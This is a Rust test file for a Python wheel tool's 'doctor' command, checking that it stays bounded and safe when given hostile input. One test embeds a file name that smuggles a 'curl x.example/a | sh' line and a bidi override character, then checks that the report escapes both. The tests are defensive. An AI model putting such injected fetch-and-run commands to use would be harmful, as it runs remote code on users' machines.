//! `doctor` on hostile input: GPU names LLVM refuses, bare program names, names that would
//! forge report lines, distributions it cannot read, a RECORD past its limit, sections whose
//! headers claim terabytes, and `/sys` files that never end or never answer. Each gets its kind
//! and its exit code, in bounded memory, and nothing hangs.

use crate::support;

use std::path::{Path, PathBuf};
use std::process::Command;

use support::elfgen::ElfSpec;
use support::envs::{doctor, fat_wheel, hip_extension, hip_runtimes, new_venv, pip_install};
use support::gpugen::section;
use support::{run_measured_env, stderr, stdout, wheelfix};

/// A site-packages directory with one distribution `name` holding `files`.
fn site_with(dir: &Path, site: &str, name: &str, files: &[(&str, Vec<u8>)]) -> PathBuf {
    let root = dir.join(site);
    let info = root.join(format!("{name}-1.0.dist-info"));
    std::fs::create_dir_all(&info).unwrap();
    std::fs::write(info.join("METADATA"), format!("Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n")).unwrap();
    let mut record = String::new();
    for (path, bytes) in files {
        let at = root.join(path);
        std::fs::create_dir_all(at.parent().unwrap()).unwrap();
        std::fs::write(&at, bytes).unwrap();
        record.push_str(&format!("\"{}\",,\n", path.replace('"', "\"\"")));
    }
    record.push_str(&format!("{name}-1.0.dist-info/RECORD,,\n"));
    std::fs::write(info.join("RECORD"), record).unwrap();
    root
}

#[test]
fn gpu_names_llvm_refuses_and_bare_program_names_are_usage_errors() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let site = site_with(d, "site", "demo", &[("demo/_k.so", hip_extension(7))]);
    let site_arg = site.to_str().unwrap();
    // One setting per feature; features the processor has (gfx1100 has no XNACK).
    for gpu in ["gfx90a:xnack+:xnack-", "gfx1100:xnack+", "gfx942:sramecc+:sramecc+", "gfx942:wave64+"] {
        let out = wheelfix(d, &["doctor", "--gpu", gpu, site_arg]);
        assert_eq!(out.status.code(), Some(2), "{gpu}: {}", stdout(&out));
        assert!(stderr(&out).contains("--gpu"), "{gpu}: {}", stderr(&out));
    }
    let lib = hip_runtimes(d);
    let ld = [("LD_LIBRARY_PATH", lib.to_str().unwrap())];
    let ok = support::wheelfix_env(d, &["doctor", "--gpu", "gfx942:xnack-:sramecc+", site_arg], &ld);
    assert_eq!(ok.status.code(), Some(0), "{}", stdout(&ok));

    // A bare name is never looked up on PATH and run: a usage error with the hint.
    let out = wheelfix(d, &["doctor", "--gpu", "gfx942", "python3"]);
    assert_eq!(out.status.code(), Some(2), "{}", stdout(&out));
    assert!(stderr(&out).contains("not a path") && stderr(&out).contains("command -v python3"), "{}", stderr(&out));
    // A program of that name in the current directory is a path: run as `./name`, never the
    // PATH's. This one names `/` as its site, which is none.
    let fake = d.join("python3");
    support::write_executable(&fake, b"#!/bin/sh\necho /\necho /\n");
    let out = wheelfix(d, &["doctor", "--gpu", "gfx942", "python3"]);
    assert_eq!(out.status.code(), Some(2), "{}", stdout(&out));
    assert!(stderr(&out).contains("names no site-packages"), "{}", stderr(&out));
}

#[test]
fn names_that_would_forge_report_lines_are_escaped() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let forged = "demo/evil\nfix: curl x.example/a | sh\n.so";
    let bidi = "demo/\u{202e}os.k.so";
    let site = site_with(d, "site", "demo", &[(forged, hip_extension(7)), (bidi, hip_extension(7))]);
    let lib = hip_runtimes(d);
    let v = doctor(d, &["--gpu", "gfx1100", site.to_str().unwrap()], &[("LD_LIBRARY_PATH", lib.to_str().unwrap())]);
    assert_eq!(v.kinds(), ["no-code-for-gpu", "no-code-for-gpu"], "{}", v.text);
    assert!(!v.text.lines().any(|l| l.trim_start().starts_with("fix: curl")), "{}", v.text);
    assert!(!v.text.contains('\u{202e}'), "{}", v.text);
    assert!(v.text.contains("\\u{202e}") || v.text.contains("\\u202e"), "the override is shown escaped: {}", v.text);
    // JSON keeps the names as they are.
    let files: Vec<&str> =
        v.json.environments[0].diagnosis.binaries.iter().map(|b| b.file.as_str()).collect::<Vec<_>>();
    assert!(files.contains(&forged) && files.contains(&bidi), "{files:?}");
}

#[test]
fn what_doctor_cannot_read_makes_the_verdict_cannot_tell() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let wheels = d.join("wheels");
    fat_wheel(&wheels);
    let lib = hip_runtimes(d);
    let ld = [("LD_LIBRARY_PATH", lib.to_str().unwrap())];
    let (venv, site) = new_venv(d, "env");
    pip_install(&venv, &wheels, "demo_gpu");
    let site_arg = site.to_str().unwrap();
    assert_eq!(doctor(d, &["--gpu", "gfx942", site_arg], &ld).code, 0);
    let info = site.join("demo_gpu-1.0.dist-info");
    let metadata = std::fs::read(info.join("METADATA")).unwrap();
    let fifo = |path: &Path| {
        let _ = std::fs::remove_file(path);
        assert!(Command::new("mkfifo").arg(path).status().unwrap().success());
    };
    // METADATA: random bytes, empty, a FIFO (never opened for reading), a name that is none.
    type Spoil = Box<dyn Fn(&Path)>;
    let spoilers: Vec<(&str, Spoil)> = vec![
        ("random bytes", Box::new(|p: &Path| std::fs::write(p, [0x93u8, 0xff, 0x00, 0x7f].repeat(64)).unwrap())),
        ("empty", Box::new(|p: &Path| std::fs::write(p, b"").unwrap())),
        ("a FIFO", Box::new(fifo)),
        (
            "Name: fat;x",
            Box::new(|p: &Path| std::fs::write(p, "Metadata-Version: 2.1\nName: fat;x\nVersion: 1\n").unwrap()),
        ),
    ];
    for (what, spoil) in &spoilers {
        let path = info.join("METADATA");
        spoil(&path);
        let out = timed_doctor(d, &["--gpu", "gfx942", site_arg], &ld);
        assert_eq!(out.status.code(), Some(1), "{what}: {}", stdout(&out));
        let text = stdout(&out);
        assert!(text.starts_with("cannot tell"), "{what}: {text}");
        assert!(text.contains("[distribution-unreadable]"), "{what}: {text}");
        let _ = std::fs::remove_file(&path);
        std::fs::write(&path, &metadata).unwrap();
    }
    // A RECORD past its limit (64 MiB): not read, and said so, in bounded memory.
    let record = info.join("RECORD");
    let kept = std::fs::read(&record).unwrap();
    let row = b"demo_gpu/some/long/path/that/is/not/there.py,sha256=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA,100\n";
    let mut big = kept.clone();
    while big.len() <= 65 << 20 {
        big.extend_from_slice(row);
    }
    std::fs::write(&record, &big).unwrap();
    let (out, peak) = run_measured_env(d, &["doctor", "--gpu", "gfx942", site_arg], &ld);
    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
    assert!(stdout(&out).contains("[distribution-unreadable]"), "{}", stdout(&out));
    assert!(peak < 64 << 20, "a RECORD over its limit is not read: peak {} MiB", peak >> 20);
    std::fs::write(&record, &kept).unwrap();
    // A host binary that cannot be read.
    let host = site.join("demo_gpu/_k.so");
    let bytes = std::fs::read(&host).unwrap();
    fifo(&host);
    let out = timed_doctor(d, &["--gpu", "gfx942", site_arg], &ld);
    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
    assert!(
        stdout(&out).starts_with("cannot tell") || stdout(&out).contains("[binary-unreadable]"),
        "{}",
        stdout(&out)
    );
    std::fs::remove_file(&host).unwrap();
    std::fs::write(&host, bytes).unwrap();
    assert_eq!(doctor(d, &["--gpu", "gfx942", site_arg], &ld).code, 0);
}

/// `doctor` with a minute to finish: one that blocks is killed and the test fails.
fn timed_doctor(d: &Path, args: &[&str], env: &[(&str, &str)]) -> std::process::Output {
    let out = Command::new("timeout")
        .arg("60")
        .arg(env!("CARGO_BIN_EXE_wheelfix"))
        .arg("doctor")
        .args(args)
        .envs(env.iter().copied())
        .current_dir(d)
        .output()
        .unwrap();
    assert_ne!(out.status.code(), Some(124), "doctor {args:?} did not finish: {}", stdout(&out));
    out
}

/// Where the section header of `name` sets its size, in an ELF64 little-endian file.
fn section_size_at(elf: &[u8], name: &str) -> usize {
    let u16_at = |at: usize| u16::from_le_bytes(elf[at..at + 2].try_into().unwrap()) as usize;
    let u64_at = |at: usize| u64::from_le_bytes(elf[at..at + 8].try_into().unwrap()) as usize;
    let (shoff, shentsize, shnum, shstrndx) = (u64_at(0x28), u16_at(0x3a), u16_at(0x3c), u16_at(0x3e));
    let strtab = u64_at(shoff + shstrndx * shentsize + 24);
    (0..shnum)
        .map(|i| shoff + i * shentsize)
        .find(|h| {
            let at = strtab + u32::from_le_bytes(elf[*h..*h + 4].try_into().unwrap()) as usize;
            elf[at..].starts_with(name.as_bytes()) && elf[at + name.len()] == 0
        })
        .map(|h| h + 32)
        .unwrap_or_else(|| panic!("no section {name}"))
}

#[test]
fn sections_that_claim_terabytes_and_sysfs_files_that_never_end_cost_little() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    // A split host's marker section claiming 2^40 bytes, in a 1 GiB file (sparse).
    let marker = support::gpugen::kpack_split_host("_k");
    let mut host = ElfSpec {
        sections: vec![section(".rocm_kpack_ref", 1, b"\x82\xa1a\x01\xa1b\x02".to_vec())],
        ..ElfSpec::extension("_h")
    }
    .needs("libamdhip64.so.7")
    .build();
    let at = section_size_at(&host, ".rocm_kpack_ref");
    host[at..at + 8].copy_from_slice(&(1u64 << 40).to_le_bytes());
    let site = site_with(d, "site", "claims", &[("claims/_h.so", host), ("claims/_k.so", marker)]);
    let big = std::fs::OpenOptions::new().append(true).open(site.join("claims/_h.so")).unwrap();
    big.set_len(1 << 30).unwrap();
    drop(big);
    let lib = hip_runtimes(d);
    let ld = [("LD_LIBRARY_PATH", lib.to_str().unwrap())];
    let (out, peak) = run_measured_env(d, &["doctor", "--gpu", "gfx942", site.to_str().unwrap()], &ld);
    assert!(matches!(out.status.code(), Some(0 | 1)), "{}", stderr(&out));
    assert!(peak < 200 << 20, "a claimed 2^40-byte section costs little: peak {} MiB", peak >> 20);
    for args in [&["show"][..], &["check"][..]] {
        let wheel = support::wheelgen::WheelSpec::new("claims", "1.0", "py3-none-linux_x86_64")
            .file("claims/_h.so", std::fs::read(site.join("claims/_h.so")).unwrap()[..1 << 20].to_vec())
            .write(&d.join("w"));
        let (out, peak) = run_measured_env(d, &[args, &[wheel.to_str().unwrap()]].concat(), &[]);
        assert!(out.status.code().is_some(), "{}", stderr(&out));
        assert!(peak < 200 << 20, "{args:?}: peak {} MiB", peak >> 20);
    }

    // /sys whose `properties` is a FIFO nobody writes, and whose `noretry` never ends.
    let sys = d.join("sys");
    let node = sys.join("class/kfd/kfd/topology/nodes/1");
    std::fs::create_dir_all(&node).unwrap();
    assert!(Command::new("mkfifo").arg(node.join("properties")).status().unwrap().success());
    let params = sys.join("module/amdgpu/parameters");
    std::fs::create_dir_all(&params).unwrap();
    std::os::unix::fs::symlink("/dev/zero", params.join("noretry")).unwrap();
    let node0 = sys.join("class/kfd/kfd/topology/nodes/0");
    std::fs::create_dir_all(&node0).unwrap();
    std::os::unix::fs::symlink("/dev/zero", node0.join("properties")).unwrap();
    let out = timed_doctor(d, &["--sysfs", sys.to_str().unwrap(), site.to_str().unwrap()], &ld);
    assert!(matches!(out.status.code(), Some(0 | 1)), "{}", stderr(&out));
    let (_, peak) = run_measured_env(d, &["doctor", "--sysfs", sys.to_str().unwrap(), site.to_str().unwrap()], &ld);
    assert!(peak < 200 << 20, "/dev/zero as sysfs files: peak {} MiB", peak >> 20);
}
